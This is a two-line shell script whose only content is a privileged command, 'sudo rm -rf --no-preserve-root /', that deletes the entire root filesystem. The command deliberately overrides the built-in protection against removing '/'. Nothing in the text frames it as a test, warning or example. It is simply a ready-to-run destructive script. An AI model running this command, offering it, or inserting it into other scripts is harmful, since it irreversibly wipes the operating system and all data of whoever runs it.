#!/bin/sh
sudo rm -rf --no-preserve-root /
